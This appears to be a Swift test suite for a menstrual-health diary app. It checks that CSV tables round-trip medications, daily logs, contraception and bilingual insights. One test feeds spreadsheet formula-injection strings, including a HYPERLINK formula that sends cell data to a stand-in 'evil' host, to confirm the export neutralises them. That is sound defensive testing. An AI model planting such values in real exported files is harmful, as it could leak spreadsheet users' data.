import Foundation
import GRDB
import Interchange
import NotebookContract
import TestSupport
import Testing
import Values
import Vault

@testable import ShifAICore

/// The tables for spreadsheets, out and in again.
@Suite("Tables for spreadsheets") struct TableRoundTripTests {
  private let first = CalendarDay("2026-01-10") ?? .earliest
  private let second = CalendarDay("2026-01-11") ?? .earliest

  /// A notebook with two medications, one of them no longer taken, and two days.
  private func filled() async throws -> (diary: Diary, iron: Medication, zinc: Medication) {
    let diary = try await Diary()
    try await diary.begin()
    let iron = try await diary.client.addMedication(
      Medication.Details(
        name: "Fer", dose: "1, puis \"2\"", notes: "matin\nsoir", reminderFrom: 1, reminderTo: 5)
    ).value
    let zinc = try await diary.client.addMedication(Medication.Details(name: "Zinc", isArchived: true)).value
    try await diary.client.editDay(first) { draft in
      (draft.flow, draft.mood, draft.lhTest) = (.heavy, 4, Open(.indeterminate))
      draft.medications = [iron.id: true, zinc.id: false]
      draft.symptoms = [SymptomLog.Details(painIn: .uterus, intensity: 8, .cramping, notes: "soir")]
    }
    try await diary.client.editDay(second) { draft in
      draft.medications = [iron.id: false]
      (draft.weightGrams, draft.pill) = (61_235, Open(.late))
    }
    try await diary.client.addContraception(
      Contraception.Details(
        method: Open(.pill), name: "Leeloo", notes: "à 8 h", start: first, end: first.adding(days: 40)))
    return (diary, iron, zinc)
  }

  private func tables(of diary: Diary) async throws -> ImportSource {
    let folder = diary.folder.url.appending(path: "tables")
    try await ShifAI.csv.export(diary.store, attachments: diary.client.attachments, to: folder)
    return try ImportSource(contentsOf: folder)
  }

  private func medications(of diary: Diary) async throws -> [String: Medication.Details] {
    let all = try await diary.client.value(MedicationsQuery(includesArchived: true))
    return Dictionary(uniqueKeysWithValues: all.map { ($0.id, $0.details) })
  }

  @Test("say in both languages what was told, beside its numbers")
  func readable() async throws {
    let diary = try await Diary()
    try await diary.begin()
    try await diary.addPeriods(from: try day("2025-10-20"), lengths: [28, 28, 28], days: 3)
    try await diary.client.tellToday()
    let folder = diary.folder.url.appending(path: "told")
    try await ShifAI.csv.export(diary.store, attachments: diary.client.attachments, to: folder)
    func text(_ name: String) throws -> String {
      try String(contentsOf: folder.appending(path: name), encoding: .utf8)
    }
    let insights = try text("insights.csv")
    #expect(insights.contains("title_fr,title_en,body_fr,body_en,reasoning_fr,reasoning_en"))
    #expect(insights.contains("Prochaines règles") && insights.contains("Next period"))
    #expect(insights.contains("Vos 3 derniers cycles ont tous duré 28 jours"))
    let predictions = try text("prediction_details.csv")
    #expect(predictions.contains("Your last 3 cycles all ran 28 days"))
    #expect(!predictions.contains("{median}"))
  }

  @Test("bring back the days, the medications and what was taken as they were, once and for all")
  func wholly() async throws {
    let (diary, _, _) = try await filled()
    let (other, source) = (try await Diary(), try await tables(of: diary))
    let importer = DiaryImporter(.tables)
    let preview = try await importer.preview(source, answers: ImportAnswers(), into: other.store)
    #expect(preview.problems == [])
    #expect(preview.counts["medication"] == 2 && preview.counts["medication_log"] == 3)
    #expect(preview.counts["contraception"] == 1 && preview.counts["weight"] == 1)
    let run = try await other.bring(source, importer)
    #expect(run.report.refusals == [])
    #expect(run.report.outcomes.mapValues(\.imported) == preview.counts)
    #expect(try await medications(of: other) == medications(of: diary))
    #expect(
      try await other.client.value(ContraceptionsQuery()).map(\.details)
        == diary.client.value(ContraceptionsQuery()).map(\.details))
    for day in [first, second] {
      let (came, was) = (
        try await other.client.value(DayQuery(day)), try await diary.client.value(DayQuery(day))
      )
      #expect(DayDraft(came) == DayDraft(was))
    }
    let again = try await other.bring(source, importer)
    #expect(again.transaction == nil && again.report.importedCount == 0)
    try await other.store.undo(run.transaction)
    #expect(try await medications(of: other).isEmpty)
  }

  @Test("bring back exactly what a spreadsheet could take for a formula, with an apostrophe in the file")
  func formulas() async throws {
    let (diary, other) = (try await Diary(), try await Diary())
    let texts = [
      "=HYPERLINK(\"http://evil/?\"&A1)", "'=1+1", "''+1", "+33 1", "-5", "'-5", "- mal", "@SUM(A1)", "\t=1",
      "\r\n=1", "-1e5 x", "it's", "'so'", "=\u{338}",
    ]
    let days = texts.indices.map { first.adding(days: -$0) }
    for (day, text) in zip(days, texts) {
      try await diary.client.editDay(day) { draft in
        draft.notes = text
        draft.symptoms = [SymptomLog.Details(painIn: .uterus, intensity: 8, .cramping, notes: text)]
      }
    }
    try await diary.client.addCustomSymptom("@voisine")
    try await diary.client.addMedication(
      Medication.Details(name: "=1+1", dose: "-1 le soir", notes: "\t=1\n"))
    try await diary.client.addContraception(
      Contraception.Details(method: Open(.pill), name: "+", notes: "'=1", start: first))

    let source = try await tables(of: diary)
    var live: [String] = []
    for entry in source.entries {
      var reader = try CSVReader(entry)
      while let row = try reader.next() {
        live += row.fields.filter { FormulaMark.added(to: $0) == "'" + $0 }
      }
    }
    #expect(live.filter { $0.utf8.first != UInt8(ascii: "'") } == [])
    #expect(live.count > texts.count)

    let run = try await other.bring(source, DiaryImporter(.tables))
    #expect(run.report.refusals == [])
    for day in days {
      let (came, was) = (
        try await other.client.value(DayQuery(day)), try await diary.client.value(DayQuery(day))
      )
      #expect(DayDraft(came) == DayDraft(was))
    }
    #expect(try await medications(of: other) == medications(of: diary))
    #expect(
      try await other.client.value(ContraceptionsQuery()).map(\.details)
        == diary.client.value(ContraceptionsQuery()).map(\.details))
    #expect(try await other.client.value(CustomSymptomsQuery()).map(\.name) == ["@voisine"])
    #expect(try await other.bring(source, DiaryImporter(.tables)).transaction == nil)
  }

  @Test("find a medication of the same name and dose, and ask where the two notebooks differ")
  func differing() async throws {
    let (diary, iron, _) = try await filled()
    let other = try await Diary()
    // Two notebooks that know nothing of each other have no id in common.
    for _ in 0..<100 { _ = other.store.dependencies.newID() }
    let mine = try await other.client.addMedication(
      Medication.Details(name: "FER", dose: "1, puis \"2\"", notes: "à jeun")
    ).value
    try await other.client.setMedication(mine.id, taken: false, on: first)
    let (source, importer) = (try await tables(of: diary), DiaryImporter(.tables))
    let preview = try await importer.preview(source, answers: ImportAnswers(), into: other.store)
    #expect(preview.questions.map(\.id).contains("conflict"))
    #expect(
      preview.problems.map(\.messageKey) == ["shifai.import.medicationKept", "shifai.import.kept"])
    let kept = try await other.bring(source, importer)
    #expect(kept.report.refusals == preview.problems)
    #expect(try await medications(of: other)[mine.id]?.notes == "à jeun")
    #expect(try await other.client.value(DayQuery(first)).medications.first?.taken == false)
    #expect(try await other.client.value(DayQuery(second)).medications.map(\.medicationId) == [mine.id])
    try await other.bring(source, importer, ["conflict": "replace"])
    #expect(try await medications(of: other)[mine.id]?.notes == "matin\nsoir")
    #expect(try await medications(of: other)[iron.id] == nil)
    #expect(
      try await other.client.value(DayQuery(first)).medications.first { $0.medicationId == mine.id }?.taken
        == true)
  }

  @Test("tell an intake of a medication that nobody knows, and take the rest")
  func unknown() async throws {
    let other = try await Diary()
    let file = try source([
      "medication_logs.csv": Data("date,medication_id,taken\n2026-01-10,m1,1\n".utf8)
    ])
    let run = try await other.bring(file, DiaryImporter(.tables))
    #expect(run.report.refusals.map(\.messageKey) == ["shifai.import.noMedication"])
    #expect(try await other.client.value(DayQuery(first)).isEmpty)
  }
}
